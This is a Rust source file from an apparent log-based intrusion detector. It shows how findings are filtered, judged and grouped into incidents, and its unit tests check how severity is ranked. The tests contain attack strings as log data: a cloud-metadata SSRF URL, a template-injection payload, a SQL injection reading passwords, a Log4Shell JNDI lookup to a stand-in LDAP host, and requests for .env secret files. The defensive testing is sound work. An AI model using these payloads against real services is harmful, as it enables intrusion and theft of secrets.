//! How a detector comes to its verdict.
//!
//! Floats and judgement begin here: nothing that a state holds is judged before all of it is there.

use std::sync::Arc;

use hashbrown::{HashMap, HashSet};

use super::published::Places;
use super::{CROWD, Detector, Limit, Verdict};
use crate::aims::Aims;
use crate::apart::{self, Alone, Apart};
use crate::catalog::Grade;
use crate::finding::{self, Finding, Judged};
use crate::impact::{self, Tally};
use crate::keys::{self, Ledger};
use crate::odd::OddReplies;
use crate::outcome::Ground;
use crate::profile::{Profile, is_answer};
use crate::signal::{Evidence, Way};
use crate::signals::is_strange;
use crate::traffic::STRETCHES_MAX;
use crate::usual::Usual;
use crate::walks::Walks;
use crate::{blind, crowded, far, harvest, incident, tracer};

impl Detector {
    /// Judges.
    pub fn finish(self) -> Verdict {
        self.finish_apart(&Alone)
    }

    /// The same, shared out.
    pub fn finish_apart(mut self, apart: &dyn Apart) -> Verdict {
        self.count();
        let key = self.key;
        let _scope = key.enter();
        self.settle();
        self.traffic.settle();
        let (mut aims, others) = apart::both(
            apart,
            || harvest::aims(&self.walks, &self.profile, self.traffic.span(), apart),
            || {
                let mut aims = blind::aims(&self.odd, &self.profile);
                aims.extend(self.walks.questions.aims());
                aims.extend(far::aims(&self.profile));
                aims.extend(keys::aims(&self.keys));
                aims
            },
        );
        aims.extend(others);
        let cloud = self.keys.cloud();
        let mut limits = self.limits();
        // What is judged and told takes the room of what was counted.
        (self.walks, self.odd, self.keys) = (Walks::default(), OddReplies::default(), Ledger::default());
        let dropped = self.leads.dropped();
        let findings_max = self.leads.max() as u64;
        let mut kept = Vec::new();
        for cell in self.leads.into_cells() {
            let rest = cell.count - cell.findings.len() as u64;
            kept.extend(cell.findings);
            if let Some(last) = kept.last_mut() {
                last.more = rest;
            }
        }
        kept.sort_by_key(|finding| (finding.time, finding.at));
        let kept = without_ordinary(&self.profile, kept);
        let more: u64 = kept.iter().map(|finding| finding.more).sum();
        if dropped.is_some() || 0 < more {
            let meaning = "these findings are counted but not shown; those with an answer are kept longest";
            let over = Some(more + dropped.unwrap_or(0)).filter(|over| 0 < *over);
            limits.push(Limit { name: "findings", limit: findings_max, over, meaning });
        }
        let findings = kept.len() as u64 + more + dropped.unwrap_or(0);
        let ground = Ground::new(&self.profile, &kept);
        let usual = Usual::of(&self.profile, &kept, aims.iter().map(|aim| aim.route));
        let judged: Vec<Judged> = kept.into_iter().map(|kept| finding::judge(kept, &ground)).collect();
        drop(ground);
        let aims = Arc::new(Aims::new(aims, std::mem::take(&mut self.profile).params));
        let (records, traffic) = (self.records, self.traffic);
        let (mut incidents, over) = incident::incidents(judged, crowded::max(self.memory));
        limits.extend(over);
        impact::assess(&mut incidents, &Aims::default(), &Tally::default());
        Verdict {
            incidents,
            records,
            findings,
            limits,
            suppressed: Vec::new(),
            traffic,
            key,
            memory: self.memory,
            usual,
            aims,
            cloud,
            taken: None,
        }
    }

    fn limits(&self) -> Vec<Limit> {
        let bounds = [
            (
                "routes",
                self.profile.routes.is_full(),
                self.profile.routes.capacity(),
                "the usual sizes of some routes are not known",
            ),
            (
                "parameters",
                self.profile.params.is_full(),
                self.profile.params.capacity(),
                "the usual values of some parameters are not known",
            ),
            (
                "clients",
                self.walks.is_full(),
                self.walks.routes.capacity(),
                "the walks of some clients over the records of the service are not known",
            ),
            (
                "questions",
                self.walks.questions.is_full(),
                self.walks.questions.capacity(),
                "what some clients asked by their parameters is not known",
            ),
            (
                "odd replies",
                self.odd.cells.is_full(),
                self.odd.cells.capacity(),
                "some answers of rare sizes are not known",
            ),
            (
                "uses of keys",
                self.keys.uses.is_full(),
                self.keys.uses.capacity(),
                "from where some roles were used is not known",
            ),
            (
                "places of machines",
                self.keys.stays.is_full(),
                self.keys.stays.capacity(),
                "whether some machines were in two places at once is not known",
            ),
            (
                "issues of keys",
                self.keys.issues.is_full(),
                self.keys.issues.capacity(),
                "until when some keys were good is known by the longest time there is alone",
            ),
            (
                "documents",
                self.profile.documents.is_full(),
                self.profile.documents.capacity(),
                "how many clients got some documents is not known",
            ),
            (
                "stretches of time",
                self.traffic.is_full(),
                STRETCHES_MAX,
                "requests over time are counted by longer stretches than hours",
            ),
        ];
        let full = bounds.into_iter().filter(|(_, is_full, ..)| *is_full);
        full.map(|(name, _, limit, meaning)| Limit { name, limit: limit as u64, over: None, meaning }).collect()
    }
}

/// How many clients, scanners left out, make what they are all answered an ordinary document of the site.
const READERS: usize = 5;

/// How many requests for a document are a few.
const LONE_MAX: u64 = 3;

/// How many different things a client reaches for that is a scanner.
const SCANNED_THINGS: usize = 3;

/// Leaves out what is no finding beside what is usual: documents that everybody gets, URLs in parameters that are
/// meant for them. Marks what a few clients read who look for nothing else.
fn without_ordinary(profile: &Profile, findings: Vec<Finding>) -> Vec<Finding> {
    let is_usual_url = |finding: &Finding, aim: &Evidence| {
        aim.way == Way::Callout && aim.grade == Grade::Weak && !is_strange(profile.params.get(finding.param_key(aim)))
    };
    let is_ordinary = |finding: &Finding| {
        let aim = &finding.evidence[0];
        let key = finding.document_key();
        let is_crowd = aim.grade <= Grade::Fair
            && profile.documents.get(key).is_some_and(|document| CROWD <= document.clients.count_ones());
        is_crowd || is_usual_url(finding, aim)
    };
    // How many findings of what is ordinary were kept depends on when each worker learnt that it is, so nothing may be
    // told by them: they go first.
    let mut kept: Vec<Finding> = findings.into_iter().filter(|finding| !is_ordinary(finding)).collect();
    for finding in &mut kept {
        // What is usual is no reason beside another one either.
        let mut evidence = std::mem::take(&mut finding.evidence);
        evidence.retain(|one| !is_usual_url(finding, one));
        finding.evidence = evidence;
    }
    let mut things: HashMap<u64, HashSet<u64>> = HashMap::new();
    for finding in &kept {
        things.entry(finding.client_key).or_default().insert(finding.evidence[0].object);
    }
    let is_scanner =
        |finding: &Finding| things.get(&finding.client_key).is_some_and(|things| SCANNED_THINGS <= things.len());
    let mut readers: HashMap<u64, HashSet<u64>> = HashMap::new();
    for finding in kept.iter().filter(|finding| finding.status.is_some_and(is_answer)) {
        if !is_scanner(finding) {
            readers.entry(finding.document_key()).or_default().insert(finding.client_key);
        }
    }
    let mut asked: HashMap<u64, (u64, HashSet<u64>)> = HashMap::new();
    for finding in kept.iter().filter(|finding| finding.evidence[0].way == Way::Document) {
        let (count, clients) = asked.entry(finding.document_key()).or_default();
        *count += 1 + finding.more;
        clients.insert(finding.client_key);
    }
    // Who says where to read about it crawls, and was led there by a link.
    let is_crawler = |finding: &Finding| finding.agent.as_deref().is_some_and(tracer::is_crawler);
    let is_lone = |finding: &Finding| {
        let is_few = |(count, clients): &(u64, HashSet<u64>)| *count <= LONE_MAX && clients.len() == 1;
        asked.get(&finding.document_key()).is_some_and(is_few) && !is_crawler(finding)
    };
    let places = Places::of(kept.iter().filter(|finding| !is_scanner(finding)));
    let is_read = |finding: &Finding| {
        let aim = &finding.evidence[0];
        let is_of_many = || readers.get(&finding.document_key()).is_some_and(|readers| READERS <= readers.len());
        aim.grade < Grade::Strong && is_of_many() || places.have(finding)
    };
    for (place, finding) in kept.iter_mut().enumerate() {
        finding.place = place;
        finding.is_read = is_read(finding);
        finding.is_lone = is_lone(finding);
    }
    kept
}

#[cfg(test)]
mod tests {
    use accesslog::{Position, Record};

    use super::*;
    use crate::finding::Severity;

    /// The worst of a log of one service, where clients of these agents ask for a capture of its network.
    fn worst(agents: &[&str]) -> Severity {
        let mut detector = Detector::default();
        let mut observe = |offset: u64, client: &str, agent: &str, target: &str| {
            let record = Record {
                client: Some(client.as_bytes()),
                agent: Some(agent.as_bytes()),
                target: Some(target.as_bytes()),
                status: Some(200),
                bytes: Some(4_580),
                ..Record::default()
            };
            detector.observe(Position { offset, line: offset, ..Position::default() }, &record);
        };
        (0..60).for_each(|number| observe(number, &format!("192.0.2.{number}"), "Mozilla/5.0", "/posts/17"));
        for (number, agent) in (100..).zip(agents) {
            observe(number, &format!("198.51.100.{number}"), agent, "/files/a.pcap");
        }
        let incidents = detector.finish().incidents;
        incidents.iter().map(|incident| incident.severity).max().unwrap_or(Severity::Info)
    }

    #[test]
    fn a_document_that_one_client_alone_got_is_shown_and_what_a_crawler_got_is_published() {
        let crawler = "Mozilla/5.0 (compatible; Robot; http://robot.example/)";
        assert_eq!(worst(&["Mozilla/5.0"]), Severity::Medium);
        assert_eq!(worst(&[crawler]), Severity::Low);
        assert!(worst(&["Mozilla/5.0", "curl/8.5"]) < Severity::Medium, "two know of it");
    }

    /// The worst of a log of a service that draws pages, where so many clients ask for this one and are refused.
    fn refused(clients: usize, asked: &str) -> Severity {
        let mut detector = Detector::default();
        let mut observe = |offset: usize, page: &str, status| {
            let (client, target) = (format!("192.0.2.{offset}"), format!("/v1/pdf?url={page}"));
            let record = Record {
                client: Some(client.as_bytes()),
                agent: Some(b"Mozilla/5.0"),
                target: Some(target.as_bytes()),
                status: Some(status),
                bytes: Some(if status == 200 { 90_000 + offset as u64 * 331 } else { 74 }),
                ..Record::default()
            };
            let at = Position { offset: offset as u64, line: offset as u64, ..Position::default() };
            detector.observe(at, &record);
        };
        (0..100).for_each(|number| observe(number, &format!("https://site{number}.example/print"), 200));
        (100..100 + clients).for_each(|number| observe(number, asked, 400));
        let incidents = detector.finish().incidents;
        incidents.iter().map(|incident| incident.severity).max().unwrap_or(Severity::Info)
    }

    #[test]
    fn what_many_ask_for_by_mistake_is_aimed_at_nothing() {
        let own = "http://localhost:3000/print";
        assert_eq!(refused(12, own), Severity::Low, "pages of one's own machine");
        assert_eq!(refused(2, own), Severity::Medium, "two are no habit");
        assert_eq!(refused(12, "http://169.254.169.254/latest/meta-data/"), Severity::Medium, "nobody's mistake");
    }

    #[test]
    fn what_a_browser_is_given_to_read_is_published_and_what_it_is_made_of_is_not() {
        let of = |target: &str, clients: usize| {
            let mut detector = Detector::default();
            for number in 0..clients {
                let client = format!("192.0.2.{number}");
                let record = Record {
                    client: Some(client.as_bytes()),
                    target: Some(target.as_bytes()),
                    status: Some(200),
                    bytes: Some(708),
                    ..Record::default()
                };
                detector.observe(Position { offset: number as u64, ..Position::default() }, &record);
            }
            detector.finish().incidents.iter().map(|incident| incident.severity).max().unwrap_or(Severity::Info)
        };
        assert!(of("/static/js/env.js", 60) < Severity::Medium && of("/assets/env.json", 12) < Severity::Medium);
        assert_eq!((of("/static/js/.env", 60), of("/env.production", 12)), (Severity::High, Severity::High));
    }

    /// The worst and its title, of a service that exports documents under a header, where one client gives these headers.
    fn exported(headers: &[&str], status: u16) -> (Severity, String) {
        let mut detector = Detector::default();
        let mut observe = |offset: usize, client: &str, header: &str, status| {
            let target = format!("/api/export?format=pdf&header={header}");
            let record = Record {
                client: Some(client.as_bytes()),
                agent: Some(b"Mozilla/5.0"),
                target: Some(target.as_bytes()),
                status: Some(status),
                bytes: Some(90_000 + offset as u64 * 331),
                ..Record::default()
            };
            let at = Position { offset: offset as u64, line: offset as u64, ..Position::default() };
            detector.observe(at, &record);
        };
        (0..100).for_each(|number| observe(number, &format!("192.0.2.{number}"), "Draft", 200));
        for (number, header) in (100..).zip(headers) {
            observe(number, "198.51.100.7", header, status);
        }
        let incidents = detector.finish().incidents;
        let worst = incidents.iter().max_by_key(|incident| incident.severity).expect("an incident");
        (worst.severity, worst.title.clone())
    }

    #[test]
    fn a_template_that_reads_the_configuration_is_shown_and_what_is_sprayed_is_not() {
        let config = "%7B%7Bconfig.items()%7D%7D";
        assert_eq!(exported(&[config], 200).0, Severity::Medium);
        assert_eq!(exported(&[config], 400).0, Severity::Low, "refused");
        let sprayed =
            exported(&[config, "x%27+union+select+password+from+users--", "%24%7Bjndi:ldap://x.example/a%7D"], 200);
        assert_eq!(sprayed.0, Severity::Low, "{}", sprayed.1);
        let answered = exported(&["x%27+union+select+password+from+users--"], 200);
        assert!(!answered.1.contains("got nothing"), "{}", answered.1);
        let refused = exported(&["x%27+union+select+password+from+users--"], 404);
        assert!(refused.1.contains("got nothing"), "{}", refused.1);
    }
}
